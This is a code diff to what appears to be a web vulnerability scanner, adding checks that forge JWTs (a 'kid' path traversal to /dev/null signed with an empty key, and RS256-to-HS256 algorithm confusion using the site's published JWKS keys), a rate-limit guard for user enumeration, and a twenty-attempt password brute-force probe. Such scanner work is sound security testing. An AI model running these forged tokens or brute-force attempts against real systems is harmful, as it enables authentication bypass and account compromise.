@@ -18,6 +18,9 @@ import re
 from collections.abc import Awaitable, Callable
 from urllib.parse import urlsplit
 
+from cryptography.hazmat.primitives import serialization
+from cryptography.hazmat.primitives.asymmetric import rsa
+
 from lunge.http import Request, parse
 from tests.demo.wire import Sent, send
 
@@ -289,6 +292,7 @@ async def jwt(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> 
     if (await send(inject(request, point, prefix + "nothing", append=False))).same_as(base):
         return None
     claims = json.loads(base64.urlsafe_b64decode(body + "=" * (-len(body) % 4)))
+    header = json.loads(base64.urlsafe_b64decode(head + "=" * (-len(head) % 4)))
     extra = _b64url(json.dumps({**claims, "x": 1}).encode())
     resigned = hmac.new(b"secret", f"{head}.{extra}".encode(), hashlib.sha256).digest()
     forged = {
@@ -297,10 +301,35 @@ async def jwt(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> 
         "random signature": f"{head}.{body}.{_b64url(random.randbytes(32))}",
         "re-signed with 'secret'": f"{head}.{extra}.{_b64url(resigned)}",
     }
+    if "kid" in header:
+        forged["kid /dev/null, empty key"] = _hs256({**header, "kid": "../../../../../../dev/null"}, body, b"")
+    if str(header.get("alg", "")).startswith("RS"):
+        for name, pem in (await _published_pems(request)).items():
+            forged[f"HS256 signed with the {name} public key"] = _hs256({**header, "alg": "HS256"}, body, pem)
     for name, token in forged.items():
         if (await send(inject(request, point, prefix + token, append=False))).same_as(base):
             return f"{name} accepted"
     return None
+
+
+def _hs256(header: dict[str, object], body: str, key: bytes) -> str:
+    head = _b64url(json.dumps(header).encode())
+    return f"{head}.{body}.{_b64url(hmac.new(key, f'{head}.{body}'.encode(), hashlib.sha256).digest())}"
+
+
+async def _published_pems(request: Request) -> dict[str, bytes]:
+    """The PEM files (X.509 and PKCS#1) of the RSA keys in the origin's JWK Set."""
+    sent = await send(Request.from_url(f"{request.origin}/.well-known/jwks.json"))
+    if sent.status != 200:
+        return {}
+    pems = {}
+    for jwk in json.loads(sent.text).get("keys", []):
+        n, e = (int.from_bytes(base64.urlsafe_b64decode(jwk[k] + "=="), "big") for k in ("n", "e"))
+        public = rsa.RSAPublicNumbers(e, n).public_key()
+        for name, form in (("X.509", serialization.PublicFormat.SubjectPublicKeyInfo),
+                           ("PKCS#1", serialization.PublicFormat.PKCS1)):
+            pems[name] = public.public_bytes(serialization.Encoding.PEM, form)
+    return pems
 
 
 async def session_forgery(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
@@ -352,7 +381,31 @@ async def user_enumeration(request: Request, point: str, sinks: tuple[Request, .
         return None
     known = await send(points.replace_many({point: found.value, password: "wrong-password-x"}))
     unknown = await send(points.replace_many({point: "nobody-zq81", password: "wrong-password-x"}))
+    if 429 in (known.status, unknown.status):
+        return None  # rate-limited (the shop limits failed sign-ins per username): says nothing of existence
     return None if known.same_as(unknown) else f"{known.status} for the user, {unknown.status} for nobody"
+
+
+ATTEMPTS = 20
+
+
+async def brute_force(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
+    """Twenty wrong passwords for the recorded username, refused alike without a 429, then the recorded
+    sign-in answered as before."""
+    points = parse(request)
+    found = points.get(point)
+    password = point.rsplit("_", 2)[0] + "_password_value"
+    if found is None or not point.endswith(("_username_value", "_email_value")) or points.get(password) is None:
+        return None
+    base = await send(request)
+    if base.status >= 400:
+        return None
+    failures = [await send(points.replace_many({point: found.value, password: f"wrong-{n}-zq81"}))
+                for n in range(ATTEMPTS)]
+    if any(f.status == 429 or f.status != failures[0].status or f.status == base.status for f in failures):
+        return None
+    final = await send(request)
+    return f"{ATTEMPTS} x {failures[0].status}, then {final.status}" if final.status == base.status else None
 
 
 async def mass_assignment(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
@@ -401,6 +454,7 @@ BY_CHECK: dict[str, tuple[Attack, ...]] = {
     "csrf": (csrf,),
     "auth-bypass": (auth_bypass,),
     "user-enumeration": (user_enumeration,),
+    "brute-force": (brute_force,),
     "mass-assignment": (mass_assignment,),
     "broken-access": (broken_access,),
 }
